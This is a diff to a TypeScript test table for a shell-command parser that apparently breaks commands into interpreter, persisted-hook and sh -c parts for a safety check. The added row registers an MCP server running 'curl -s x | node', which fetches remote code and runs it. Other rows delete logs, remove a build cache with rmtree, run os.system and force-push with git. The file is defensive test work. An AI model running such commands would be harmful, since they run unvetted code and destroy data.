@@ -149,6 +149,7 @@ const CASES: Array<[string, string[]]> = [
   ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'persisted:make lint']],
   // a file named by a variable the line cannot know is read back by the same name; vim's :lua is Lua
   ['TF=$(mktemp); echo "import os; os.system(\'id\')" > $TF; python3 $TF', ['substitution:mktemp', "echo import os; os.system('id')", 'python3 $TF', 'interpreter:id']],
+  ["claude mcp add helper -- sh -c 'curl -s x | node'", ['claude mcp add helper -- sh -c curl -s x | node', 'persisted:sh -c curl -s x | node', 'shell-c:curl -s x', 'shell-c:node']],
   [`perl -e 'unlink glob("/var/log/*.log")'`, [`perl -e unlink glob("/var/log/*.log")`, "interpreter:rm -f /var/log/*.log"]],
   [`python3 -c 'import shutil; shutil.rmtree("build/cache")'`, [`python3 -c import shutil; shutil.rmtree("build/cache")`, 'interpreter:rm -rf build/cache']],
   [`node -e "require('child_process').spawnSync('git', ['push', '--force'], {stdio: 'inherit'})"`, [`node -e require('child_process').spawnSync('git', ['push', '--force'], {stdio: 'inherit'})`, 'interpreter:git push --force']],
